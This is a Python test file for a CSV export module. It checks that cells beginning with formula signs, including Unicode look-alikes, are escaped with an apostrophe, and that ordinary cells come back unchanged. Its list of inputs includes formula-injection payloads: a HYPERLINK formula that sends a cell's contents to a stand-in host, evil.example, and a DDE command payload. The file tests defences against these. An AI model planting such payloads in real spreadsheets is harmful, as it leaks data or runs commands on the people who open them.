"""Cells of a CSV: nothing in them begins a formula, and whatever was in them comes back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inquiries.web import spreadsheet

SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫−"
NAUGHTY = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\ttext",
    "  =1",
    '"=1',
    "'=1",
    '"" \t @x',
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\0=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=cmd|'/C calc'!A0",
]


@pytest.mark.parametrize("cell", NAUGHTY)
def test_a_cell_that_a_spreadsheet_would_run_stands_behind_an_apostrophe(cell: str) -> None:
    (read,) = rows(spreadsheet.line([cell]))[0]
    assert read.startswith("'")
    assert read.removeprefix("'").replace("'", "") == cell.replace("\0", "").replace("'", "")


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "The Example Gazette",
        "Smith, Jones",
        'The "Post"',
        "a = b",
        "24-hour news",
        "O'Brien",
        "أخبار",
        "x\ny",
    ],
)
def test_other_cells_come_back_as_they_were(cell: str) -> None:
    assert rows(spreadsheet.line([cell, "2026-11-24T12:00:00-05:00"])) == [
        [cell, "2026-11-24T12:00:00-05:00"]
    ]


@pytest.mark.parametrize("separator", [";", "\t", "|"])
@pytest.mark.parametrize(
    "cell", ["Wire;=1+1", "Wire\t=1+1", "Wire\r\n=1+1", 'Wire|"=1', "a;b; ＝c", 'x";"=1']
)
def test_nothing_begins_a_formula_where_another_sign_separates_cells(separator: str, cell: str) -> None:
    line = spreadsheet.line(["first", cell]).decode()
    pieces = [piece for record in csv.reader(io.StringIO(line), delimiter=separator) for piece in record]
    assert [
        piece for piece in pieces if piece.lstrip(" \"'\t\r\n")[:1] in tuple(SIGNS) and "'" not in piece
    ] == []


def test_a_line_is_as_the_standard_has_it() -> None:
    assert spreadsheet.line(['say "hi"', "a,b", ""]) == b'"say ""hi""","a,b",""\r\n'


def test_half_a_sign_is_no_error() -> None:
    assert spreadsheet.line(["\ud800"]) == b'"?"\r\n'


@given(st.lists(st.text(alphabet=st.sampled_from(" \t;,|\"'x=+-@＝\u200b")), min_size=1))
def test_no_cell_read_back_begins_a_formula(cells: list[str]) -> None:
    (read,) = rows(spreadsheet.line(cells))
    assert len(read) == len(cells)
    assert [
        cell for cell in read if cell.strip(' \t"\u200b')[:1] in tuple(SIGNS) and cell.strip(' \t"\u200b')
    ] == []


def rows(line: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(line.decode(), newline="")))
